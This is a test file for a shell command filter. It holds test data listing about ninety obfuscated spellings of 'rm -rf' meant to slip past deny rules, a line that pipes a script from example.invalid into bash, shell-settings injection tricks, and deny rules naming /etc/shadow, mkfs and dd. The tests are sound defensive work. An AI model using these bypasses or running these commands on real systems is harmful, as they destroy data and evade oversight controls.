// Command filter rules judged on the words the shell will run (demo/shared/command-filter/
// command-filter.ts): hostile spellings of a denied command are refused, ordinary lines stay allowed, allow
// rules and 2.3's matching keep their meaning, a line that does not parse fails closed, and incomplete
// input is recognised.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import {
  CommandFilter,
  isIncomplete,
  ready,
  type FilterRule,
} from '../../../demo/shared/command-filter/command-filter.ts';
import { analyseLine } from '../../../demo/shared/command-filter/shell-words.ts';
import { literalOf } from '../../../demo/shared/command-filter/shell-word-value.ts';

const deny = (content: string, type = 'command', priority = 50): FilterRule => ({ type, content, priority, action: 0 });
const allow = (content: string, type = 'command', priority = 50): FilterRule => ({
  type,
  content,
  priority,
  action: 1,
});

before(() => ready());

const HOSTILE: [string, string][] = [
  ['rm -rf x', 'plain'],
  ['r\\m -rf x', 'backslash inside'],
  ['\\rm -rf x', 'backslash in front (alias bypass)'],
  ["r''m -rf x", 'empty quotes'],
  ['"rm" -rf x', 'double quotes'],
  ["'r'm -rf x", 'single-quoted part'],
  ['r"m" -rf x', 'double-quoted part'],
  ["$'\\x72m' -rf x", 'ANSI-C escape'],
  ["r$'m' -rf x", 'ANSI-C part'],
  ['rm -r\\f x', 'escaped option letter'],
  ['rm -"rf" x', 'quoted option'],
  ['a=r; b=m; $a$b -rf x', 'constants set on the same line'],
  ["$(printf '\\x72\\x6d') -rf x", 'command word from a substitution'],
  ['"$(echo rm)" -rf x', 'quoted substitution as the command word'],
  ['${x:-rm} -rf x', 'default value expansion'],
  ['rm${IFS}-rf${IFS}x', 'IFS splitting'],
  ['r? -rf x', 'glob as the command word'],
  ['/bin/r\\m -rf x', 'path to the binary'],
  ['r\\\nm -rf x', 'line continuation inside the word'],
  ['rm \\\n-rf x', 'line continuation between words'],
  ['ls\nrm -rf x', 'newline-separated'],
  ['ls; rm -rf x', 'semicolon'],
  ['true && rm -rf x', 'and list'],
  ['false || rm -rf x', 'or list'],
  ['ls | rm -rf x', 'pipeline'],
  ['rm -rf x &', 'background'],
  ['{ rm -rf x; }', 'group'],
  ['(rm -rf x)', 'subshell'],
  ['! rm -rf x', 'negation'],
  ['echo $(rm -rf x)', 'command substitution'],
  ['echo `rm -rf x`', 'backticks'],
  ['cat <(rm -rf x)', 'process substitution'],
  ['x=$(r\\m -rf x)', 'substitution in an assignment'],
  ['export X=$(r\\m -rf x)', 'substitution in export'],
  ['if true; then r\\m -rf x; fi', 'if body'],
  ['while false; do :; done; for i in 1; do r\\m -rf x; done', 'loop body'],
  ['case a in a) r\\m -rf x;; esac', 'case body'],
  ['f() { r\\m -rf x; }', 'function body'],
  ['rm >/dev/null -rf x', 'words after a redirection'],
  ["bash -c 'r\\m -rf x'", 'bash -c'],
  ['sh -c "r\\m -rf x"', 'sh -c'],
  ["dash -c 'r\\m -rf x'", 'dash -c'],
  ["zsh -c 'r\\m -rf x'", 'zsh -c'],
  ["bash -lc 'r\\m -rf x'", 'bash with clustered -c'],
  ['bash -c "sh -c \'r\\\\m -rf x\'"', 'nested shells'],
  ["eval 'r\\m -rf x'", 'eval'],
  ['eval r\\\\m -rf x', 'eval of joined words'],
  ['exec r\\m -rf x', 'exec'],
  ['command r\\m -rf x', 'command'],
  ['builtin eval "r\\m -rf x"', 'builtin eval'],
  ['env A=1 r\\m -rf x', 'env with an assignment'],
  ["env -S 'r\\m -rf x'", 'env -S'],
  ['sudo r\\m -rf x', 'sudo'],
  ['sudo -u root -- r\\m -rf x', 'sudo with options'],
  ['nohup r\\m -rf x', 'nohup'],
  ['time r\\m -rf x', 'time'],
  ['nice -n 5 r\\m -rf x', 'nice'],
  ['timeout -s KILL 5 r\\m -rf x', 'timeout'],
  ['echo x | xargs r\\m', 'xargs appends words from its input'],
  ['find . -exec r\\m -rf {} \\;', 'find -exec'],
  ["su -c 'r\\m -rf x' root", 'su -c'],
  ["watch 'r\\m -rf x'", 'watch'],
  ["trap 'r\\m -rf x' EXIT", 'trap'],
  ["alias x='r\\m -rf'", 'alias value'],
  ['sh <<EOF\nr\\m -rf x\nEOF', 'here-document into sh'],
  ["bash <<< 'r\\m -rf x'", 'here-string into bash'],
  ["echo 'r\\m -rf x' | sh", 'pipe into sh'],
  ['curl -s http://example.invalid/x | bash', 'script from the network'],
  ['cat <<E | sh\nr\\m -rf x\nE', 'here-document piped into sh'],
  ['bash -c "$CMD"', 'a string not known before it runs'],
  ['sudo $CMD', 'a wrapped command not known before it runs'],
  ['IFS=_; a=rm_-rf_x; $a', '$IFS set to split a constant'],
  ['a="bash -c"; $a "r\\m -rf x"', 'a wrapper from a constant'],
  ['# note \\\nr\\m -rf x', 'a comment does not continue on a backslash'],
  ['ls#x; r\\m -rf x', 'a # inside a word is not a comment'],
  ['$SHELL -c "r\\m -rf x"', 'a command word not known before it runs'],
  ["bash <(echo 'r\\m -rf x')", 'a script from a process substitution'],
  ["bash /dev/stdin <<< 'r\\m -rf x'", 'bash reading /dev/stdin'],
  ["source /dev/stdin <<< 'r\\m -rf x'", 'source of /dev/stdin'],
  [". <(echo 'r\\m -rf x')", 'source of a process substitution'],
  ['$"rm" -rf x', 'locale-translated string'],
  ['echo ${x:-$(r\\m -rf x)}', 'substitution inside a default value'],
  ['!!:1!!:2 -rf x', 'history expansion'],
  ['^rx^rm', 'history quick substitution'],
  ['fc -s', 'fc runs an earlier line again'],
  ['a=ls; a=rm && $a -rf x', 'an assignment inside a list is not a constant'],
  ['a=ls; read a; $a -rf x', 'a command between forgets the constants'],
  ['a=; b=${a:=rm}; $a -rf x', 'an expansion that assigns'],
  ['{r,x}m -rf x', 'brace expansion (does not parse: fails closed)'],
  ['echo \'x\n"; $a$b -rf x', 'a line after an open quote, judged alone'],
];

test('hostile spellings of a denied command are refused', () => {
  const filter = new CommandFilter([deny('rm -rf')]);
  for (const [line, how] of HOSTILE) {
    const verdict = filter.check(line);
    assert.equal(verdict.allowed, false, `${how}: ${JSON.stringify(line)} must be refused`);
    assert.equal(verdict.rule?.content, 'rm -rf', how);
  }
});

const ORDINARY: [string, string][] = [
  ['ls /', 'plain'],
  ['ls -la /var/log', 'options'],
  ['rmdir x', 'a longer word starting like the rule'],
  ['rm -i x', 'other options of the same command'],
  ['rm -- "$f"', 'a variable after -- cannot be the option'],
  ['rm *.log', 'a glob that cannot be the option'],
  ['cd $HOME', 'a variable that does not line up with the rule'],
  ['cd ~ && ls', 'tilde'],
  ['echo "$PATH"', 'quoted variable'],
  ['cp -r $SRC $DST', 'variables only in argument positions'],
  ['git commit -m "fix"', 'quoted message'],
  ['git commit -m "$MSG"', 'quoted variable message'],
  ['grep -r foo .', 'grep -r'],
  ['ps aux | grep nginx', 'pipeline'],
  ['for f in *.log; do gzip "$f"; done', 'loop'],
  ['sudo systemctl restart nginx', 'sudo'],
  ['find / -name "*.conf" 2>/dev/null', 'find with a redirection'],
  ["awk '{print $1}' x.txt", 'awk program'],
  ['tail -f /var/log/syslog', 'tail'],
  ['df -h && free -m', 'list'],
  ['export PATH=$PATH:/opt/bin', 'export'],
  ['cat <<EOF > /tmp/x\nhello $USER\nEOF', 'here-document to a file'],
  ['a=ls; $a -la', 'a constant that is not the rule'],
  ['echo {a,b}.txt', 'brace expansion in an argument'],
  ['ls | xargs -n1 echo', 'xargs of another command'],
  ['bash', 'an interactive shell'],
  ['vim $(which vim)', 'substitution in an argument'],
  ['man bash', 'manual page'],
  ['echo "done!"', 'an exclamation mark that is not a history expansion'],
  ['if ! grep -q x y; then ls; fi', 'negation'],
  ['fc -l', 'listing history'],
];

test('ordinary lines stay allowed', () => {
  const filter = new CommandFilter([deny('rm -rf'), deny('reboot\nshutdown')]);
  for (const [line, how] of ORDINARY) {
    const verdict = filter.check(line);
    assert.equal(
      verdict.allowed,
      true,
      `${how}: ${JSON.stringify(line)} must be allowed (${verdict.reason} ${verdict.matched})`,
    );
  }
});

test('decided choices: 2.3 refusals stay, and an unknown word where a denied word could stand is refused', () => {
  const filter = new CommandFilter([deny('rm -rf')]);
  // 2.3's pattern is found in the raw line: still refused, though echo only prints it.
  assert.equal(filter.check('echo rm -rf').allowed, false);
  assert.equal(filter.check('git commit -m "rm -rf"').allowed, false);
  // "$f" could hold -rf, `*` could name a file called -rf, $EDITOR could be `rm -rf`.
  for (const line of ['rm "$f"', 'rm *', '$EDITOR file', 'ls $DIR -rf']) {
    const verdict = filter.check(line);
    assert.equal(verdict.allowed, false, line);
    assert.equal(verdict.reason, 'wildcard', line);
  }
  // A quoted unknown command word stays one word: it could be `rm`, not `rm -rf`.
  assert.equal(filter.check('"$EDITOR" file').allowed, true);
  // A one-word rule refuses any command word that is not known before it runs.
  assert.equal(new CommandFilter([deny('rm')]).check('$EDITOR file').allowed, false);
  assert.equal(new CommandFilter([deny('rm')]).check('cd $HOME').allowed, true);
});

test('the verdict names the rule, the matched words, the simple command and why', () => {
  const filter = new CommandFilter([deny('rm -rf')]);
  const plain = filter.check('ls; r\\m  -rf /tmp/x');
  assert.deepEqual(
    [plain.reason, plain.matched, plain.command, plain.parsed],
    ['rule', 'rm -rf', 'r\\m  -rf /tmp/x', true],
  );
  const substituted = filter.check("$(printf '\\x72\\x6d') -rf x");
  assert.deepEqual([substituted.reason, substituted.matched], ['wildcard', 'rm -rf']);
  const piped = filter.check('cat x | sh');
  assert.deepEqual([piped.reason, piped.command], ['unknown-command', 'sh']);
  const resolved = filter.check('a=r; b=m; $a$b -rf x');
  assert.deepEqual([resolved.reason, resolved.command], ['rule', '$a$b -rf x']);
  const nested = filter.check("bash -c 'echo hi; r\\m -rf x'");
  assert.equal(nested.allowed, false);
  assert.equal(filter.check('ls').reason, 'no-match');
});

test('regex rules match the raw line and each command without its quoting; an unknown command matches them', () => {
  const filter = new CommandFilter([deny('rm\\s+-rf', 'regex'), deny('/etc/shadow', 'regex')]);
  assert.equal(filter.check('r\\m -rf x').allowed, false);
  assert.equal(filter.check("cat '/etc/sha'dow").allowed, false);
  assert.equal(filter.check('cat /etc/sha\\dow').allowed, false);
  assert.equal(filter.check('bash -c \'cat /etc/"shadow"\'').allowed, false);
  assert.equal(filter.check('curl -s http://example.invalid/x | sh').allowed, false);
  assert.equal(filter.check('cat /etc/passwd').allowed, true);
  assert.equal(filter.check('rm -r x').allowed, true);
});

test('allow rules: first matching rule per simple command, and every command must be allowed', () => {
  const filter = new CommandFilter([
    allow('ls', 'command', 90),
    allow('^sudo ', 'regex', 90),
    deny('rm', 'command', 50),
  ]);
  assert.equal(filter.check('ls rm').allowed, true, 'the allow rule comes first for this command');
  assert.equal(filter.check('ls; rm -rf /').allowed, false, 'an allowed command does not carry the next one');
  assert.equal(filter.check('ls $(rm x)').allowed, false, 'nor a substitution inside it');
  assert.equal(filter.check('sudo rm x').allowed, false, 'the wrapped command is judged on its own');
  assert.equal(filter.check('sudo ls').allowed, true);
  const shells = new CommandFilter([allow('sh', 'command', 90), deny('rm -rf')]);
  assert.equal(shells.check('sh -c "ls"').allowed, true);
  assert.equal(shells.check('sh -c "r\\m -rf x"').allowed, false, 'allowing sh does not allow what it runs');
  assert.equal(shells.check('curl -s http://example.invalid/x | sh').allowed, false, 'nor a script it reads');
  // 2.3's own example: a higher-priority allow regex lets a narrower use through.
  const narrowed = new CommandFilter([deny('rm -rf'), allow('^rm\\s+-rf\\s+/tmp/safe', 'regex', 90)]);
  assert.equal(narrowed.check('rm -rf /tmp/safe/a').allowed, true);
  assert.equal(narrowed.check('rm -rf /tmp/safe/a; rm -rf /').allowed, false);
  // An allow list with a catch-all deny: each command of the line must be on the list.
  const listed = new CommandFilter([allow('ls\ncat', 'command', 60), deny('.*', 'regex', 10)]);
  assert.equal(listed.check('ls -la && cat /etc/hosts').allowed, true);
  assert.equal(listed.check('cat x | grep y').allowed, false);
  assert.equal(listed.check('ls `id`').allowed, false);
});

test('any action other than deny is not a refusal, as in 2.3', () => {
  const filter = new CommandFilter([
    { type: 'command', content: 'rm', priority: 90, action: 2 },
    deny('rm -rf', 'command', 50),
  ]);
  const verdict = filter.check('rm -rf x');
  assert.equal(verdict.allowed, true);
  assert.equal(verdict.rule?.action, 2);
});

test('a line that does not parse fails closed: refused if any deny rule matches, whatever the allow rules', () => {
  const filter = new CommandFilter([allow('^echo', 'regex', 90), deny('rm -rf')]);
  const open = filter.check('echo "unterminated; r\\m -rf x');
  assert.deepEqual([open.allowed, open.parsed, open.incomplete], [false, false, true]);
  const braces = filter.check('{r,x}m -rf /');
  assert.deepEqual([braces.allowed, braces.parsed], [false, false]);
  const harmless = filter.check('echo "still typing');
  assert.deepEqual(
    [harmless.allowed, harmless.parsed, harmless.incomplete, harmless.reason],
    [true, false, true, 'no-match'],
  );
  assert.equal(filter.check('ls )').allowed, true, 'a syntax error that touches no deny rule');
});

test('a line past 32 KiB is refused when there is a deny rule, and not parsed', () => {
  const long = `echo ${'a '.repeat(17 * 1024)}`;
  const verdict = new CommandFilter([deny('rm -rf')]).check(long);
  assert.deepEqual([verdict.allowed, verdict.reason], [false, 'too-long']);
  assert.equal(new CommandFilter([allow('echo')]).check(long).allowed, true);
});

test('backslash-newline joins words only where the shell removes it', () => {
  const commands = (text: string) =>
    analyseLine(text)!.commands.map((command) => command.words.map((word) => literalOf(word)));
  assert.deepEqual(commands('r\\\nm -rf x'), [['rm', '-rf', 'x']]);
  assert.deepEqual(
    commands('echo a\\\\\nls'),
    [['echo', 'a\\'], ['ls']],
    'an escaped backslash does not continue the line',
  );
  assert.deepEqual(commands('# note \\\nls'), [['ls']], 'nor does one ending a comment');
  assert.deepEqual(commands("echo 'a\\\nb'"), [['echo', 'a\\\nb']], 'nor one inside single quotes');
  assert.deepEqual(commands('echo "a\\\nb"'), [['echo', 'ab']]);
});

test('incomplete input: the shell would wait for more lines', () => {
  const waiting = [
    "echo 'abc",
    'echo "abc',
    'ls \\',
    'echo $(ls',
    'echo `ls',
    'if true; then ls',
    'ls &&',
    'ls ||',
    'ls |',
    'cat <<EOF',
    'cat <<EOF\nabc',
    'for x in a b; do',
    '(ls',
    '{ ls;',
    'case x in',
    'while true',
    '[[ -f x',
    'echo ${a',
    "echo $'ab",
    'f() {',
    'ls\n\\',
    'if true\nthen',
  ];
  const complete = [
    'ls',
    'ls -la /',
    'ls )',
    'if ls; fi',
    '(ls))',
    'echo a\\\\',
    'cat <<EOF\nabc\nEOF',
    "ls # it's",
    'ls # a\\',
    'echo "a\nb"',
    'r\\\nm -rf x',
    'for x in a; do echo $x; done',
  ];
  for (const text of waiting) assert.equal(isIncomplete(text), true, JSON.stringify(text));
  for (const text of complete) assert.equal(isIncomplete(text), false, JSON.stringify(text));
});

test('parsing stays fast: 1,000 typical lines', () => {
  const filter = new CommandFilter([
    deny('rm -rf\nreboot\nshutdown\nmkfs\ndd if='),
    deny('/etc/shadow', 'regex'),
    allow('ls\ncat', 'command', 40),
  ]);
  const lines = [...ORDINARY.map(([line]) => line), ...HOSTILE.slice(0, 20).map(([line]) => line)];
  const started = performance.now();
  for (let i = 0; i < 1000; i++) {
    filter.check(lines[i % lines.length]);
    isIncomplete(lines[i % lines.length]);
  }
  const elapsed = performance.now() - started;
  console.log(`1,000 lines checked (with isIncomplete) in ${elapsed.toFixed(0)} ms`);
  assert.ok(elapsed < 10_000, `${elapsed} ms`); // ~0.3 ms a line measured on the 2-core machine; the bound only catches a blow-up
});

// Code a setting stores for the shell (or a program it starts) to run later is judged as a command of the
// line that sets it; what cannot be read there is an unknown command, which every deny rule refuses.
const SETTINGS_HOSTILE: [string, string][] = [
  ['PROMPT_COMMAND=\'r""m F\'', 'PROMPT_COMMAND'],
  ["PROMPT_COMMAND=('ls' 'r\\m F')", 'PROMPT_COMMAND as an array'],
  ["export PROMPT_COMMAND='r\\m F'", 'export'],
  ["env PROMPT_COMMAND='r\\m F' bash", 'env for a new shell'],
  ['PS1=\'$(r""m F)\\$ \'', 'PS1 command substitution'],
  ['PS0=\'$(r""m F)\'', 'PS0'],
  ["PS4='`r\\m F`'; set -x", 'PS4 backquotes'],
  ['PS1=\'\\044(r""m F)> \'', 'PS1 octal escape that becomes a $'],
  ['PS1=\'a"b$(r""m F)"\'', 'PS1 with double quotes around the substitution'],
  ["declare -x PS1='$(r\\m F)'", 'declare'],
  ['export "PS1=\\$(r\\m F)"', 'an assignment written as a quoted word'],
  ['complete -C \'r""m F\' x', 'complete -C'],
  ["complete -W '$(r\\m F)' x", 'complete -W expands its word list'],
  ['bind -x \'"\\C-t": r""m F\'', 'bind -x'],
  ['bind -x \'"\\C-t": "r\\m F"\'', 'bind -x with a quoted command'],
  ["mapfile -C 'r\\m F' -c 1 x < /etc/hosts", 'mapfile -C callback'],
  ["EDITOR='r\\m F'", 'EDITOR (C-x C-e, fc, programs)'],
  ["LESSOPEN='|r\\m %s'", 'LESSOPEN'],
  ['BASH_ENV=/tmp/x bash -c ls', 'BASH_ENV: a file the door cannot read'],
  ['ENV=/tmp/x sh', 'ENV'],
  ['INPUTRC=/tmp/x bash', 'INPUTRC: bindings from a file'],
  ['PS1=$x', 'a value not known before it runs'],
  ["PROMPT_COMMAND+=' x'", 'appended to a value set earlier'],
  ['declare -n r=PS1', 'a name reference'],
  ['read PROMPT_COMMAND', 'read into a setting'],
  ["printf -v PROMPT_COMMAND '%s' x", 'printf -v into a setting'],
  ["for PS1 in '$(r\\m F)'; do :; done", 'a loop variable'],
  [": ${PS1:='$(r\\m F)'}", 'an expansion that assigns'],
  ['bind \'"\\C-x": accept-line\'', 'a key bound to run the line'],
  ['bind \'"\\C-t": "ls\\n"\'', 'a key bound to a macro'],
  ['bind -f /tmp/inputrc', 'bindings from a file'],
  ['set -o vi', 'vi editing mode (v runs the line in an editor)'],
  ['cat <<E\n`r\\m F`\nE', 'backquotes in a here-document'],
];

const SETTINGS_ORDINARY = [
  "PS1='\\u@\\h:\\w\\$ '",
  "PS1='[\\t] $(date +%s) \\$ '",
  "PROMPT_COMMAND='history -a'",
  'EDITOR=vim',
  'complete -F _x x',
  'bind \'"\\e[A": history-search-backward\'',
  'bind -x \'"\\C-t": date\'',
  'set -o emacs',
  'set -e',
  'read -r line',
  "printf '%s\\n' x",
  'BASH_ENV= bash -c ls',
  "cat <<'E'\n`r\\m F`\nE",
];

test('code hidden in shell settings is judged as the commands it holds; what cannot be read fails closed', () => {
  const filter = new CommandFilter([deny('rm'), deny('reboot'), deny('mkfs|dd\\s+if=', 'regex')]);
  for (const [line, how] of SETTINGS_HOSTILE)
    assert.equal(filter.check(line).allowed, false, `${how}: ${JSON.stringify(line)} must be refused`);
  for (const line of SETTINGS_ORDINARY) {
    const verdict = filter.check(line);
    assert.equal(
      verdict.allowed,
      true,
      `${JSON.stringify(line)} must be allowed (${verdict.reason} ${verdict.command})`,
    );
  }
  assert.equal(
    new CommandFilter([allow('ls')]).check('set -o vi').allowed,
    true,
    'without a deny rule nothing is unknown-refused',
  );
});

test('a deny regex sees a word with a glob as the names it could match', () => {
  const filter = new CommandFilter([deny('mkfs|dd\\s+if=', 'regex')]);
  for (const line of [
    '/sbin/mk?s -V',
    'mk[e-g]s /dev/x',
    '/usr/sbin/mkf* x',
    'd? if=/dev/zero of=x',
    'dd $ARGS',
    '$CMD -V',
    'cat mk*',
  ])
    assert.equal(filter.check(line).allowed, false, line);
  for (const line of ['cd $HOME', 'ls *.txt', 'ls -la /var/log/*.log', 'echo $HOME/mk', 'grep -r x $DIR', 'cp $A $B'])
    assert.equal(filter.check(line).allowed, true, line);
  // Word boundaries and anchors hold through wildcards; a regex the automaton cannot read fails closed.
  assert.equal(new CommandFilter([deny('^reboot\\b', 'regex')]).check('re?oot now').allowed, false);
  assert.equal(
    new CommandFilter([deny('\\breboot\\b', 'regex')]).check('echo xreboot*').allowed,
    true,
    'no boundary between x and r',
  );
  assert.equal(
    new CommandFilter([deny('\\breboot\\b', 'regex')]).check('echo x*reboot').allowed,
    false,
    'x.reboot is a name x* can match',
  );
  assert.equal(new CommandFilter([deny('(rm)\\1', 'regex')]).check('cd $HOME').allowed, false);
});
